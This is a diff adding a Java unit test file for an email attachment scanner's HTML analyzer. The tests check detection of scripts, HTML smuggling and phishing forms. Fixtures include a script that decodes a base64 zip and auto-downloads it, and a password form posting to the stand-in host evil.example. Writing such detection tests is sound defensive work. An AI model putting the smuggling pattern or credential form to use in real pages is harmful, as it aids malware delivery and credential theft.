@@ -1,0 +1,64 @@
+package dev.prefilter.engine.html;
+
+import static dev.prefilter.engine.testing.TestEngines.codes;
+import static dev.prefilter.engine.testing.TestEngines.nodes;
+import static dev.prefilter.engine.testing.TestEngines.scanFile;
+import static dev.prefilter.engine.testing.TestEngines.scanMail;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.prefilter.engine.fixtures.Archives;
+import dev.prefilter.engine.fixtures.MimeBuilder;
+import dev.prefilter.engine.fixtures.Samples;
+import dev.prefilter.engine.model.Verdict;
+import dev.prefilter.engine.report.Report;
+import java.util.Base64;
+import org.junit.jupiter.api.Test;
+
+class HtmlAnalyzerTest {
+
+    @Test
+    void anHtmlAttachmentWithScriptIsSuspicious() {
+        Report report = scanFile("invoice.html", Samples.text("<html><body><script>document.write('x')</script></body></html>"));
+        assertTrue(codes(report).contains("html.script"));
+        assertEquals(Verdict.SUSPICIOUS, report.verdict());
+    }
+
+    @Test
+    void structuredDataScriptsInAnHtmlBodyStayClean() {
+        byte[] mail = MimeBuilder.mail().html("<html><head><script type=\"application/ld+json\">{\"@type\":\"Order\"}</script></head>"
+                + "<body><p>Your order shipped.</p><a href=\"https://shop.example/track\">track</a></body></html>").build();
+        Report report = scanMail(mail);
+        assertEquals(Verdict.CLEAN, report.verdict(), codes(report).toString());
+    }
+
+    @Test
+    void smuggledPayloadsAreDecodedAndScanned() {
+        String zip = Base64.getEncoder().encodeToString(Archives.zip(Archives.files("invoice.js", "WScript.Echo(1);\n// " + noise(3000))));
+        String page = "<html><body><script>var b=atob('" + zip + "');var u=new Uint8Array(b.length);"
+                + "var blob=new Blob([u]);var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
+                + "a.download='invoice.zip';a.click();</script></body></html>";
+
+        Report report = scanFile("document.html", Samples.text(page));
+
+        assertTrue(codes(report).contains("html.smuggling"), codes(report).toString());
+        assertTrue(nodes(report).stream().anyMatch(n -> n.name().equals("invoice.js")), "the smuggled zip was opened");
+        assertEquals(Verdict.MALICIOUS, report.verdict());
+    }
+
+    /** Text that does not compress, so the smuggled blob has a realistic size. */
+    private static String noise(int length) {
+        java.util.Random random = new java.util.Random(42);
+        StringBuilder sb = new StringBuilder();
+        for (int i = 0; i < length; i++) sb.append((char) ('a' + random.nextInt(26)));
+        return sb.toString();
+    }
+
+    @Test
+    void credentialFormsInAttachmentsAreFlagged() {
+        Report report = scanFile("login.htm", Samples.text("<form action=\"https://evil.example/p\"><input type=\"password\" name=\"p\"></form>"));
+        assertTrue(codes(report).contains("html.password-form"));
+        assertFalse(codes(report).contains("html.script"));
+    }
+}
